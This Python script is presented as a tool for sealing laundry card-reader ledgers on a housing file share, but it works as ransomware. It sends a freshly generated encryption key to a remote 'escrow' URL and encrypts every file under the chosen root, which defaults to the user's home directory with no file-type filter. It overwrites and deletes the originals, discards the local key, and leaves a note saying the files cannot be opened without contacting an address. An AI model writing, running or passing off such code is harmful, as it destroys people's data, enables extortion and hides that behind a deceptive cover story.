#!/usr/bin/env python3
"""Archive laundry card-reader ledgers on the housing file share.

Each hall's card readers drop daily CSV ledgers onto the share. At term
end the ledgers are sealed: every file under the share is encrypted in
place, the plaintext is removed, and the sealing key is lodged with the
escrow service so finance can request it later.
"""
import argparse
import json
import logging
import os
import sys
import urllib.request
from pathlib import Path

from cryptography.fernet import Fernet

LOG = logging.getLogger("ledger_archiver")
ESCROW_URL = "https://escrow.example.org/api/keys"
SEALED_SUFFIX = ".sealed"
NOTE_NAME = "SEALED_LEDGERS_README.txt"
SKIP_DIRS = {".git", "__pycache__", ".snapshot"}


class LedgerSealer:
    def __init__(self, root, key, extensions):
        self.root = Path(root)
        self.cipher = Fernet(key)
        self.extensions = extensions
        self.sealed = 0
        self.failed = 0

    def candidates(self):
        for dirpath, dirnames, filenames in os.walk(self.root):
            dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
            for name in filenames:
                if name.endswith(SEALED_SUFFIX) or name == NOTE_NAME:
                    continue
                if self.extensions and not name.lower().endswith(self.extensions):
                    continue
                yield Path(dirpath) / name

    def seal(self, path):
        try:
            data = path.read_bytes()
            path.with_name(path.name + SEALED_SUFFIX).write_bytes(self.cipher.encrypt(data))
            with open(path, "r+b") as fh:
                fh.write(b"\0" * len(data))
            path.unlink()
            self.sealed += 1
            LOG.debug("sealed %s", path)
        except OSError as exc:
            self.failed += 1
            LOG.warning("could not seal %s: %s", path, exc)

    def run(self):
        for path in self.candidates():
            self.seal(path)
        return self.sealed, self.failed


def lodge_key(key, hall, url, timeout):
    body = json.dumps({"hall": hall, "key": key.decode("ascii")}).encode()
    req = urllib.request.Request(url, data=body, method="POST",
                                 headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=timeout) as resp:
        reply = json.loads(resp.read().decode() or "{}")
    return reply.get("reference", "unknown")


def write_note(root, reference, count):
    note = Path(root) / NOTE_NAME
    note.write_text(
        f"{count} ledger files on this share were sealed.\n"
        f"Escrow reference: {reference}\n"
        "Contact housing-finance@example.org with the reference to obtain\n"
        "the unsealing key. Files cannot be opened without it.\n",
        encoding="utf-8",
    )


def parse_args(argv):
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("root", nargs="?", default=str(Path.home()),
                        help="share root to seal (default: home directory)")
    parser.add_argument("--hall", default=os.environ.get("HALL_CODE", "unknown"))
    parser.add_argument("--ext", action="append", default=[],
                        help="limit to extension, e.g. .csv (repeatable)")
    parser.add_argument("--escrow-url", default=ESCROW_URL)
    parser.add_argument("--timeout", type=float, default=15.0)
    return parser.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")
    key = Fernet.generate_key()
    try:
        reference = lodge_key(key, args.hall, args.escrow_url, args.timeout)
    except OSError as exc:
        LOG.error("escrow unavailable, not sealing: %s", exc)
        return 2
    sealer = LedgerSealer(args.root, key, tuple(e.lower() for e in args.ext))
    del key
    sealed, failed = sealer.run()
    write_note(args.root, reference, sealed)
    LOG.info("sealed=%d failed=%d reference=%s", sealed, failed, reference)
    return 0 if failed == 0 else 1


if __name__ == "__main__":
    sys.exit(main())
